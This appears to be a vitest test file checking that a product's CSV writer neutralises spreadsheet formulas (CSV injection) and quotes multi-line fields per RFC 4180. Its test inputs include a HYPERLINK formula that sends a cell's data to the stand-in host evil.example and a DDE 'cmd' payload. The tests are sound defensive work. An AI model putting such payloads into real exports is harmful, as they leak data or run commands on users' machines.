// The product's one CSV writer (content-types/src/csv.ts), read back with a strict parser that is not it.
import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from '@mzo/content-types/csv';
import { parseCsvStrictly } from '../support/csv.ts';

describe('CSV cells', () => {
  it('neutralise text a spreadsheet would run as a formula, the OWASP way', () => {
    for (const formula of [
      '=HYPERLINK("https://evil.example/?d="&A2,"Klik hier")',
      '=1+1',
      '+SUM(A1:A9)',
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(A1)',
      '\t=1+1',
      '\r=1+1',
      '- een opsomming',
      '+31 30 123 4567 (of mail =x)',
    ])
      expect(csvCell(formula), formula).toBe(`'${formula}`);
  });

  it('leave ordinary values, numbers and phone numbers usable', () => {
    for (const value of [
      'Stichting De Brug',
      "'s-Hertogenbosch",
      'a=b',
      '030 123 4567',
      '+31 30 123 4567',
      '+31-6-12345678',
      '-12.5',
      '-12,5',
      '+(31) 30 1234567',
    ])
      expect(csvCell(value), value).toBe(value);
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(1.5)).toBe('1.5');
    expect(csvCell(true)).toBe('true');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });
});

describe('CSV files', () => {
  const rows = [
    ['naam', 'notitie', 'aantal'],
    ['Stichting “De Brug”, Lombok', 'Zij zei: "kom!"\nTweede regel', 3],
    ['Café Ü’s', 'oude Mac-regel\rnieuwe regel', -1],
    ['=HYPERLINK("https://evil.example/","Klik")', 'Windows\r\nregel', null],
  ];

  it('quote every field with a CR or LF, so a strict reader finds each record whole (RFC 4180)', () => {
    const text = toCsv(rows);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(parseCsvStrictly(text)).toEqual(rows.map((row) => row.map((value) => csvCell(value as never))));
  });

  it('start with a byte order mark only when asked (for Excel)', () => {
    expect(toCsv(rows, { bom: true }).startsWith('\ufeffnaam,')).toBe(true);
    expect(toCsv(rows).startsWith('naam,')).toBe(true);
  });
});
